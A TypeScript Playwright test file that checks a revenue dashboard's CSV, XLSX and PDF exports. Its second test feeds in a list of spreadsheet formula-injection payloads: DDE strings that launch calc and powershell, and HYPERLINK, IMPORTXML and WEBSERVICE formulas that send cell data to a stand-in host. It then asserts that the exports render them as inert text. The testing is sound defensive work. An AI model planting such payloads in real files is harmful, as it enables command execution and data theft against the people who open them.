import { csvRows, exported, openWhole, outputOf, installed, workbookOf } from './exported.ts';
import { ofFeature } from './addresses.ts';
import { withoutDrawing } from './figures-on-page.ts';
import { expect, test } from './test.ts';

/** Pages whose first card is a money total, with the heading of their table of key figures. */
const PAGES = [
  '/revenue-op-trend',
  '/revenue-up3d',
  '/revenue-up3d-current',
  '/revenue-channel',
  '/revenue-bank-channel',
  '/regional',
  '/detailed-regional',
  '/tax-types',
] as const;

test.describe.configure({ timeout: 180_000 });

for (const path of PAGES)
  test(
    `${path}: the file of the whole page has the total of its first card, all rows, and closes with what it lacks`,
    ofFeature(path),
    async ({ page }) => {
      await openWhole(page, path);
      const card = page.getByRole('article').first().locator('p[title]').first();
      const shown = (await card.getAttribute('title'))?.replace(/\D/g, '');
      const { path: file, name } = await exported(page, 'csv');
      const rows = await csvRows(file);
      expect(rows[rows.findIndex(([first]) => first === 'Angka utama') + 2]?.[1]).toBe(shown);
      expect(name).not.toContain('INCOMPLETE');
      expect(rows.flat().filter((text) => text.startsWith('INCOMPLETE'))).toEqual([]);
    },
  );

const PAYLOADS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1,"klik")',
  '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  '=WEBSERVICE("http://example.org")',
  "=2+5+cmd|'/C powershell'!A0",
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

test('names that are formulas leave as text: units and agency in every format', async ({ page }) => {
  const payloadOf = (index: number) => PAYLOADS[index % PAYLOADS.length] ?? '';
  const named = (index: number) => ({ id: payloadOf(index), en: payloadOf(index) });
  await withoutDrawing(page);
  await page.route(/\/api\/v1\/(answers\/|dimensions\/unit|status)/, async (route) => {
    const response = await route.fetch();
    const body = await response.json();
    if (body.agency) body.agency = named(0);
    for (const [index, option] of (body.options ?? []).entries()) option.name = named(index);
    for (const { kind, key, members } of body.columns ?? [])
      if (kind === 'dimension' && key === 'unit') Object.keys(members).forEach((code, index) => (members[code] = named(index)));
    await route.fulfill({ response, json: body });
  });
  await openWhole(page, '/revenue-up3d');
  const csv = (await csvRows((await exported(page, 'csv')).path)).flat();
  expect(csv.filter((text) => /^[\s]*[=+@＝＋－＠]|^\s*-(?!\d+(,\d+)?$)/.test(text))).toEqual([]);
  for (const payload of PAYLOADS) expect(csv).toContain(`'${payload.replace('\r', '\n')}`);
  const { sheets } = await workbookOf((await exported(page, 'xlsx')).path);
  const cells = sheets.flatMap((sheet) => [...(sheet.cells?.values() ?? [])]);
  expect(cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
  for (const payload of PAYLOADS) {
    const found = cells.filter(({ value }) => value === payload.replace('\r', '\n'));
    expect(found.length).toBeGreaterThan(0);
    expect(found.every(({ type, style }) => type === 'string' && style?.numFmt === '@')).toBe(true);
  }
  test.skip(!installed('pdftotext'), 'pdftotext is not installed (Debian: poppler-utils); CSV and workbook were checked');
  const text = outputOf('pdftotext', ['-raw', (await exported(page, 'pdf')).path, '-']).replace(/\s/g, '');
  for (const payload of PAYLOADS.filter((one) => !/[＝＋－＠]/.test(one))) expect(text).toContain(payload.replace(/\s/g, ''));
});
